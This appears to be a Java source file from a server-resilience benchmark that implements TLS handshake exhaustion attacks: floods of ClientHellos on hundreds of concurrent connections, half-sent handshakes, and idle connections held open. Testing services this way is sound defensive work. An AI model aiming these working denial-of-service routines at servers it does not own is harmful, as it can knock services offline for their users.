package dev.restauth.bench.hostile;

import dev.restauth.bench.ClientHello;
import java.io.IOException;
import java.net.Socket;
import java.security.GeneralSecurityException;
import java.util.List;

/** Attacks on the TLS handshake. */
final class TlsAttacks {
  /** The time for which a connection with a hello stays open. */
  private static final long OPEN_MILLIS = 20;

  /** The number of connections that send hellos at the same time. */
  private static final int AT_ONCE = 300;

  private TlsAttacks() {}

  static List<Attack> all() throws GeneralSecurityException, IOException {
    return List.of(
        new Attack("half a TLS handshake", 7, 4, 100, TlsAttacks::halfHandshake),
        new Attack("no TLS handshake at all", 8, 4, 100, TlsAttacks::noHandshake),
        hellos("TLSv1.3", 1));
  }

  /**
   * Sends the same ClientHello on some 1,400 connections a second, and leaves. A hello has some 400
   * bytes, and makes the server exchange keys and sign.
   *
   * @param protocol {@code TLSv1.3} or {@code TLSv1.2}
   */
  static Attack hellos(String protocol, int addresses)
      throws GeneralSecurityException, IOException {
    byte[] hello = ClientHello.create(protocol);
    int connections = Math.max(1, AT_ONCE / addresses);
    long pause = Attack.AGAIN_MILLIS * (addresses * connections - AT_ONCE) / AT_ONCE;
    return new Attack(
        protocol + " hellos",
        9,
        addresses,
        connections,
        (target, from) -> {
          sendHello(target, from, hello);
          Thread.sleep(pause);
        });
  }

  private static void sendHello(Target target, String from, byte[] hello)
      throws IOException, InterruptedException {
    try (Socket socket = target.connectPlainly(from, 0)) {
      socket.setSoLinger(true, 0); // a reset, which leaves no port in TIME_WAIT
      socket.getOutputStream().write(hello);
      Thread.sleep(OPEN_MILLIS);
    }
  }

  /** Sends only the first bytes of a ClientHello. */
  private static void halfHandshake(Target target, String from) throws IOException {
    try (Socket socket = target.connectPlainly(from, 0)) {
      socket.getOutputStream().write(new byte[] {22, 3, 1, 2, 0, 1, 0, 1, (byte) 0xfc, 3, 3});
      Attack.hold(socket);
    }
  }

  private static void noHandshake(Target target, String from) throws IOException {
    try (Socket socket = target.connectPlainly(from, 0)) {
      Attack.hold(socket);
    }
  }
}
